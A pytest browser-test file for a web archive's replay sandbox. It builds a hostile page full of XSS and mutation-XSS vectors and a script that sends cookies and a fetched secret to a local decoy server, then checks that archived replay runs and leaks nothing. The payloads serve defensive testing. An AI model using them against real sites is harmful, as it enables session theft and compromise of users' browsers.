"""Law 7 in a real browser: a hostile archived page has no effect.

A page with scripts in every place is archived and opened through a real server; its requests and changes are recorded.
The same page served unchanged shows that its attacks would work.
"""

import socket
import threading
from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager, contextmanager, suppress
from dataclasses import dataclass, field
from datetime import UTC, datetime
from typing import Any

import pytest
from starlette.applications import Starlette
from starlette.responses import HTMLResponse
from starlette.routing import Route

from newsarchive.archive import Archive
from newsarchive.web.app import create_app

sync_api = pytest.importorskip("playwright.sync_api")

pytestmark = pytest.mark.slow

URL = "http://hostile.example/news/1"
STAMP = "20260301060000"
ArchiveOf = Callable[..., Archive]
AtAddress = Callable[[object], AbstractContextManager[str]]

TRAP = (
    "document.title='TAKEN';document.cookie='taken=1';try{{localStorage.setItem('taken','1')}}catch(e){{}}"
    "try{{top.document.title='TAKEN'}}catch(e){{}}try{{top.localStorage.setItem('taken','1')}}catch(e){{}}"
    "try{{opener&&(opener.location='{decoy}/opener')}}catch(e){{}}"
    "console.log('taken {name}');new Image().src='{decoy}/ran/{name}?'+document.cookie;"
    "try{{fetch('/secret',{{credentials:'include'}}).then(r=>r.text()).then(t=>fetch('{decoy}/loot?'+t))}}catch(e){{}}"
)


def page(decoy: str) -> bytes:
    """Return the hostile page; `decoy` is the server that it tries to reach."""

    def trap(name: str) -> str:
        return TRAP.format(decoy=decoy, name=name)

    socket_address = decoy.replace("http://", "ws://")
    return f"""<!doctype html>
<html onload="{trap("html-onload")}" manifest="{decoy}/manifest"><head><title>News</title>
<base href="{decoy}/base/" target="_parent">
<meta http-equiv="refresh" content="1; url={decoy}/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src * data: blob: ws: 'unsafe-inline' 'unsafe-eval'">
<link rel="preconnect" href="{decoy}"><link rel="dns-prefetch" href="//decoy.example">
<link rel="preload" as="image" href="{decoy}/preload"><link rel="prefetch" href="{decoy}/prefetch">
<link rel="modulepreload" href="{decoy}/module"><link rel="prerender" href="{decoy}/prerender">
<link rel="stylesheet" href="{decoy}/sheet.css"><link rel="icon" href="{decoy}/icon.png">
<link rel="import" href="{decoy}/import"><link rel="manifest" href="{decoy}/web.manifest">
<style>@import "{decoy}/imported.css"; @import url({decoy}/imported2.css);
body {{ background: url({decoy}/background.png); behavior: url({decoy}/x.htc); width: expression(alert(1)) }}
@font-face {{ font-family: x; src: url({decoy}/font.woff2) }} p {{ font-family: x }}
a {{ background: \\75 rl({decoy}/escaped.png) }} li {{ list-style: image-set("{decoy}/set.png" 1x) }}</style>
<script>{trap("inline")}</script><script src="{decoy}/script.js"></script>
<script type="module">import('data:text/javascript,export default globalThis').then(m => {{
  m.default.top.name = 'taken'; new Image().src = '{decoy}/ran/data-import' }});</script>
<script>new WebSocket('{socket_address}/socket'); navigator.serviceWorker.register('/web/{STAMP}id_/{URL}/sw.js');
new Worker(URL.createObjectURL(new Blob(["fetch('{decoy}/ran/worker')"])));
new EventSource('{decoy}/events'); navigator.sendBeacon('{decoy}/beacon');
window.open('{decoy}/window'); top.location = '{decoy}/top';</script>
<script type="speculationrules">{{"prerender": [{{"urls": ["{decoy}/speculated"]}}]}}</script>
<noscript><img src="{decoy}/noscript.gif"><meta http-equiv="refresh" content="1;{decoy}/noscript"></noscript>
</head><body onload="{trap("body-onload")}" background="{decoy}/body.png">
<h1>A harmless headline</h1><p style="background:url('{decoy}/style.png')">Text of the page.</p>
<img id="i" src="x:nothing" onerror="{trap("img-onerror")}"><img src="{decoy}/image.png" srcset="{decoy}/2x.png 2x">
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">
<picture><source srcset="{decoy}/source.png"><img alt=""></picture>
<video src="{decoy}/film.mp4" poster="{decoy}/poster.jpg" autoplay onplay="{trap("video")}"></video>
<audio src="{decoy}/sound.mp3" autoplay></audio><track src="{decoy}/track.vtt">
<iframe src="{decoy}/frame"></iframe><iframe srcdoc="<script>parent.document.title='TAKEN'</script>"></iframe>
<iframe src="javascript:{trap("iframe-js")}"></iframe>
<object data="{decoy}/object"></object><embed src="{decoy}/embed"><applet code="{decoy}/applet"></applet>
<svg onload="{trap("svg-onload")}"><script>{trap("svg-script")}</script><image href="{decoy}/svg.png"/>
<use href="{decoy}/sprite.svg#a"/><a xlink:href="javascript:{trap("svg-link")}"><text y="20">s</text></a>
<animate attributeName="href" to="javascript:alert(1)"/><foreignObject><img src=x onerror="{trap("foreign")}">
</foreignObject><style><img src=x onerror="{trap("svg-style")}"></style></svg>
<math><mtext><img src=x onerror="{trap("math")}"></mtext></math>
<form id="f" action="{decoy}/form" method="post"><input name="q" autofocus onfocus="{trap("autofocus")}">
<input type="password" name="p"><button id="submit" formaction="{decoy}/formaction">Send</button></form>
<p><a id="script-link" href="javascript:{trap("link")}">script</a>
<a id="data-link" href="data:text/html,<script>alert(1)</script>">data</a>
<a id="live-link" href="{decoy}/live" ping="{decoy}/ping" target="_blank">live</a>
<a id="opener-link" href="/other" target="_blank" rel="opener">other</a></p>
<details open ontoggle="{trap("toggle")}"><summary>s</summary>d</details>
<template><img src="{decoy}/template.png" onerror="{trap("template")}"></template>
<x-element style="background:url({decoy}/custom.png)" onclick="{trap("custom")}">custom</x-element>
<marquee onstart="{trap("marquee")}">m</marquee><noembed><img src=x onerror="{trap("noembed")}"></noembed>
<textarea autofocus onfocus="{trap("textarea")}"></textarea><select onfocus="{trap("select")}"></select>
<!--[if IE]><script>{trap("conditional")}</script><![endif]-->
{more(decoy, trap)}
<title><img src=x onerror="{trap("second-title")}"></title><xmp><img src=x onerror="{trap("xmp")}"></xmp>
</body></html>""".encode()


def more(decoy: str, trap: Callable[[str], str]) -> str:
    """Return rarer places for scripts, and markup that parsers may interpret differently the second time."""
    return f"""<meta http-equiv="set-cookie" content="taken=1">
<link rel="stylesheet" href="data:text/css,@import'{decoy}/d'">
<form action="javascript:{trap("form-action")}"><input id="go" type="submit" value="Go"
formaction="javascript:{trap("formaction")}">
<input type="image" src="{decoy}/submit.png" onerror="{trap("input")}"></form>
<map name="m"><area shape="default" href="javascript:{trap("area")}" onfocus="{trap("area-focus")}"></map>
<div><template shadowrootmode="open"><img src=x onerror="{trap("shadow")}"><script>{trap("shadow-script")}</script>
</template></div><div popover onbeforetoggle="{trap("popover")}">p</div>
<dialog open onclose="{trap("dialog")}">d</dialog>
<p style="animation: x 1s" onanimationstart="{trap("animation")}" contenteditable onfocus="{trap("editable")}">a</p>
<style>@keyframes x {{ from {{ background: url({decoy}/key.png) }} }}</style>
<svg><use href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;script&gt;1&lt;/script&gt;#x"/>
<set attributeName="onmouseover" to="{trap("set")}"/><a href="&#1;javascript:{trap("control")}"><text y="9">c</text></a>
<feImage href="{decoy}/filter.png"/><style>@import '{decoy}/svg.css';</style></svg>
<svg></p><style><a id="</style><img src=x onerror='{trap("mutated-style")}'>"></style></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={trap("mutated-math")}&gt;">
</style></mglyph></table></mtext></math>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="{trap("mutated-form")}"></style></form>
<noscript><p title="</noscript><img src=x onerror={trap("mutated-noscript")}>"></noscript>
<iframe name="javascript:{trap("name")}" srcdoc="&lt;img src=x onerror='{trap("srcdoc")}'&gt;"></iframe>
<object data="javascript:{trap("object")}"></object><embed src="javascript:{trap("embed")}">
<object data="data:text/html,<script>{trap("object-data")}</script>"></object><portal src="{decoy}/portal"></portal>
<fencedframe src="{decoy}/fenced"></fencedframe><frameset><frame src="{decoy}/frame2"></frameset>
<img src=x usemap="#m" onerror&#61;"{trap("entity")}" OnError="{trap("case")}" /onerror="{trap("slash")}">
<script>navigator.serviceWorker.register('/web/{STAMP}mp_/{URL}', {{scope: '/'}}); new SharedWorker('{decoy}/shared');
new BroadcastChannel('x').postMessage(document.cookie); indexedDB.open('taken'); caches.open('taken');
new RTCPeerConnection({{iceServers: [{{urls: 'stun:127.0.0.1:9'}}]}}).createOffer();
setInterval(() => {{ try {{ opener.location = '{decoy}/opener2' }} catch (e) {{}} }}, 100);</script>"""


@dataclass
class Decoy:
    """A server that counts connections and does not respond."""

    port: int = 0
    heard: list[bytes] = field(default_factory=list)

    @property
    def url(self) -> str:
        """URL with another host name than the archive's."""
        return f"http://decoy.localhost:{self.port}"


@pytest.fixture(scope="module")
def decoy() -> Iterator[Decoy]:
    """A server that an escape of any test would reach; a connection alone counts."""
    with listening_decoy() as decoy:
        yield decoy


@contextmanager
def listening_decoy() -> Iterator[Decoy]:
    """Start a decoy."""
    listening = socket.create_server(("127.0.0.1", 0))
    decoy = Decoy(port=listening.getsockname()[1])

    def hear() -> None:
        while True:
            try:
                connection, _ = listening.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(2)
                try:
                    decoy.heard.append(connection.recv(300))
                except TimeoutError:
                    decoy.heard.append(b"a connection")

    thread = threading.Thread(target=hear, daemon=True)
    thread.start()
    try:
        yield decoy
    finally:
        listening.shutdown(socket.SHUT_RDWR)
        listening.close()
        thread.join()


@pytest.fixture(scope="module")
def hostile(shared_archive_of: ArchiveOf, decoy: Decoy) -> Archive:
    """An archive of the page and its hostile resources."""
    at = datetime(2026, 3, 1, 6, tzinfo=UTC)
    script = TRAP.format(decoy=decoy.url, name="archived-script").encode()
    svg = b"<svg xmlns='http://www.w3.org/2000/svg'><script>%b</script></svg>" % script
    return shared_archive_of(
        {"url": URL, "body": page(decoy.url), "at": at},
        {"url": "http://hostile.example/other", "body": b"<h1>Other page</h1>" + page(decoy.url), "at": at},
        {"url": f"{decoy.url}/script.js", "body": script, "mime": "text/javascript", "at": at},
        {"url": f"{URL}/sw.js", "body": script, "mime": "text/javascript", "at": at},
        {"url": f"{decoy.url}/image.png", "body": svg, "mime": "image/svg+xml", "at": at},
        {"url": f"{decoy.url}/live", "body": page(decoy.url), "at": at},
        {
            "url": f"{decoy.url}/sheet.css",
            "body": b"@import '%b/from-sheet.css'; h1 { color: rgb(1, 2, 3) }" % decoy.url.encode(),
            "mime": "text/css",
            "at": at,
        },
    )


class Watch:
    """Records all requests and changes of a browser context."""

    def __init__(self, browser: Any, base: str) -> None:
        self.context = browser.new_context()
        self.base = base
        self.asked: list[str] = []
        self.said: list[str] = []
        self.context.on("request", lambda request: self.asked.append(request.url))
        self.context.on("console", lambda message: self.said.append(message.text))
        self.context.add_cookies([{"name": "session", "value": "canary", "url": base}])

    def elsewhere(self) -> list[str]:
        """Return the requests to other hosts."""
        return [url for url in self.asked if not url.startswith((self.base, "data:", "about:"))]

    def taken(self) -> list[str]:
        """Return signs of executed scripts."""
        return [text for text in self.said if "taken" in text]


def test_the_attacks_succeed_without_protection(chromium: Any, at_address: AtAddress) -> None:
    """Served unchanged, the page runs scripts and reaches the decoy: the other tests are meaningful."""
    with listening_decoy() as target:

        def raw(request: object) -> HTMLResponse:
            return HTMLResponse(page(target.url))

        with at_address(Starlette(routes=[Route("/{rest:path}", raw)])) as base:
            watch = Watch(chromium, base)
            opened = watch.context.new_page()
            opened.goto(f"{base}/news/1", wait_until="commit")
            opened.wait_for_timeout(2_000)
            assert watch.taken()
            assert watch.elsewhere()
            assert target.heard
            watch.context.close()


def test_an_archived_page_runs_nothing_and_reaches_nobody(
    hostile: Archive, decoy: Decoy, chromium: Any, at_address: AtAddress
) -> None:
    """In its frame: no script runs, no cookie or storage changes, and only the archive gets requests."""
    with at_address(create_app(hostile)) as base:
        watch = Watch(chromium, base)
        opened = watch.context.new_page()
        address = f"{base}/web/{STAMP}/{URL}"
        opened.goto(f"{base}/")
        opened.evaluate("localStorage.setItem('secret', 'canary')")
        opened.goto(address)
        frame = opened.frame_locator("iframe.replay")
        assert frame.locator("h1").inner_text() == "A harmless headline"
        opened.wait_for_timeout(2_500)  # longer than the refreshes wait
        assert opened.url == address
        assert "TAKEN" not in opened.title()
        for name in ("#script-link", "#data-link", "#submit", "#f input", "x-element", "svg text"):
            frame.locator(name).first.click(force=True, timeout=5_000)
            opened.wait_for_timeout(200)
        assert opened.url == address
        assert opened.evaluate("Object.entries(localStorage)") == [["secret", "canary"]]
        assert opened.evaluate("Object.entries(sessionStorage)") == []
        assert opened.evaluate("indexedDB.databases()") == []
        assert opened.evaluate("caches.keys()") == []
        assert not any("/secret" in url for url in watch.asked)
        assert opened.evaluate("window.name") == ""
        assert opened.evaluate("navigator.serviceWorker.getRegistrations().then(found => found.length)") == 0
        assert [(c["name"], c["value"]) for c in watch.context.cookies()] == [("session", "canary")]
        assert len(watch.context.pages) == 1
        assert watch.taken() == []
        assert watch.elsewhere() == []
        assert decoy.heard == []
        watch.context.close()


def test_a_window_opened_by_an_archived_link_has_no_opener(
    hostile: Archive, decoy: Decoy, chromium: Any, at_address: AtAddress
) -> None:
    """A link with an opener opens a page of the archive without one; the original page is unchanged."""
    with at_address(create_app(hostile)) as base:
        watch = Watch(chromium, base)
        opened = watch.context.new_page()
        address = f"{base}/web/{STAMP}/{URL}"
        opened.goto(address)
        link = opened.frame_locator("iframe.replay").locator("#opener-link")
        link.click(modifiers=["Control"])
        opened.wait_for_timeout(2_000)
        assert opened.url == address
        for other in watch.context.pages:
            assert other.evaluate("window.opener") is None
            assert other.url.startswith(f"{base}/web/{STAMP}/")
        assert watch.taken() == []
        assert watch.elsewhere() == []
        assert decoy.heard == []
        watch.context.close()


def test_another_site_cannot_control_a_window_of_the_archive(
    hostile: Archive, decoy: Decoy, chromium: Any, at_address: AtAddress
) -> None:
    """Another site that opens the archive can neither read the window, count its frames, nor navigate it."""
    with at_address(create_app(hostile)) as base:
        script = f"const w = window.open('{base}/web/{STAMP}/{URL}'); setTimeout(() => {{"
        script += f"document.title = `${{w.closed}} ${{w.length}}`; try {{ w.location = '{decoy.url}/led' }} catch {{}}"
        script += "}, 2500)"

        def elsewhere(request: object) -> HTMLResponse:
            return HTMLResponse(f'<!doctype html><title>-</title><button onclick="{script}">open</button>')

        with at_address(Starlette(routes=[Route("/", elsewhere)])) as other:
            context = chromium.new_context()
            opened = context.new_page()
            opened.goto(other.replace("127.0.0.1", "other.localhost"))
            with context.expect_page() as found:
                opened.locator("button").click()
            window = found.value
            window.frame_locator("iframe.replay").locator("h1").wait_for()
            opened.wait_for_timeout(3_000)
            assert opened.title() == "true 0"
            assert window.url == f"{base}/web/{STAMP}/{URL}"
            assert window.evaluate("window.opener") is None
            assert decoy.heard == []
            context.close()


def test_archived_styles_apply_and_links_stay_inside(
    hostile: Archive, decoy: Decoy, chromium: Any, at_address: AtAddress
) -> None:
    """The archived stylesheet applies, and a link opens the archived page in the whole window."""
    with at_address(create_app(hostile)) as base:
        watch = Watch(chromium, base)
        opened = watch.context.new_page()
        opened.goto(f"{base}/web/{STAMP}/{URL}")
        frame = opened.frame_locator("iframe.replay")
        frame.locator("h1").wait_for()
        colour = "e => e.ownerDocument.defaultView.getComputedStyle(e).color"
        assert frame.locator("h1").evaluate(colour) == "rgb(1, 2, 3)"
        frame.locator("#live-link").click()
        opened.wait_for_url(f"{base}/web/{STAMP}/{decoy.url}/live")
        assert opened.locator("iframe.replay").count() == 1
        assert watch.elsewhere() == []
        assert decoy.heard == []
        watch.context.close()


def test_hidden_overlays_uncover_a_page_that_scrolls(
    shared_archive_of: ArchiveOf, chromium: Any, at_address: AtAddress
) -> None:
    """The switch removes what is fixed to the window, by whichever style; the text is read to its end."""
    body = b"""<!doctype html><html lang=en class=locked><title>Story</title><link rel=stylesheet href=/wall.css><style>
    .locked body{position:fixed;overflow:hidden;height:100vh}</style><h1>Story</h1><p style="height:3000px">The harbour
    <p id=end>The end<div class=wall>Please log in</div><dialog open>Join us</dialog>"""
    at = datetime(2026, 3, 1, 6, tzinfo=UTC)
    sheet = b".wall{position:fixed;inset:0;z-index:9;background:#fff}"
    archive = shared_archive_of(
        {"url": URL, "body": body, "at": at},
        {"url": "http://hostile.example/wall.css", "body": sheet, "mime": "text/css", "at": at},
    )
    with at_address(create_app(archive)) as base:
        opened = chromium.new_page(java_script_enabled=False)
        opened.goto(f"{base}/web/{STAMP}/{URL}")
        frame = opened.frame_locator("iframe.replay")
        frame.locator(".wall").wait_for()
        opened.get_by_role("link", name="Hide overlays").click()
        opened.wait_for_url(f"{base}/web/{STAMP}bare_/{URL}")
        frame.locator("h1").wait_for()
        assert not frame.locator(".wall, dialog").first.is_visible()
        assert not frame.locator("dialog").is_visible()
        frame.locator("#end").scroll_into_view_if_needed()
        frame.locator("#end").click()
        opened.get_by_role("link", name="show them").click()
        frame.locator(".wall").wait_for()
        opened.close()


def test_no_url_of_the_archive_runs_archived_scripts(
    hostile: Archive, decoy: Decoy, chromium: Any, at_address: AtAddress
) -> None:
    """Opened directly, under any mark, an archived page, script or image runs nothing."""
    with at_address(create_app(hostile)) as base:
        watch = Watch(chromium, base)
        for path in (
            f"{STAMP}mp_/{URL}",
            f"{STAMP}mp_bare_/{URL}",
            f"{STAMP}id_/{URL}",
            f"{STAMP}im_/{URL}",
            f"{STAMP}cs_/{URL}",
            f"{STAMP}oe_/{URL}/sw.js",
            f"{STAMP}id_/{URL}/sw.js",
            f"{STAMP}im_/{decoy.url}/image.png",
            f"{STAMP}/{decoy.url}/image.png",
            f"{STAMP}/{decoy.url}/script.js",
        ):
            opened = watch.context.new_page()
            with suppress(sync_api.Error):  # what is handed over as a download opens no page
                opened.goto(f"{base}/web/{path}", wait_until="load")
        opened.wait_for_timeout(1_800)
        assert watch.taken() == []
        assert watch.elsewhere() == []
        assert decoy.heard == []
        assert [(c["name"], c["value"]) for c in watch.context.cookies()] == [("session", "canary")]
        watch.context.close()


def test_another_site_cannot_find_out_what_is_archived(
    hostile: Archive, decoy: Decoy, chromium: Any, at_address: AtAddress
) -> None:
    """Another site that embeds URLs of the archive learns nothing: neither frames nor images load."""
    with at_address(create_app(hostile)) as base:
        tries = (
            f"<img src='{base}/web/{STAMP}im_/{decoy.url}/image.png' onload='document.title+=1'>"
            f"<img src='{base}/web/{STAMP}im_abcdef/{decoy.url}/image.png' onload='document.title+=2'>"
            f"<link rel=stylesheet href='{base}/web/{STAMP}cs_/{decoy.url}/sheet.css'><h1>h</h1>"
            f"<iframe src='{base}/web/{STAMP}mp_/{URL}'></iframe>"
        )

        def elsewhere(request: object) -> HTMLResponse:
            return HTMLResponse(f"<!doctype html><title>-</title>{tries}")

        with at_address(Starlette(routes=[Route("/", elsewhere)])) as other:
            opened = chromium.new_page()
            opened.goto(other.replace("127.0.0.1", "other.localhost"))
            opened.wait_for_timeout(500)
            assert opened.title() == "-"
            assert opened.locator("h1").evaluate("e => getComputedStyle(e).color") == "rgb(0, 0, 0)"
            assert opened.frame_locator("iframe").get_by_text("A harmless headline").count() == 0
            opened.close()
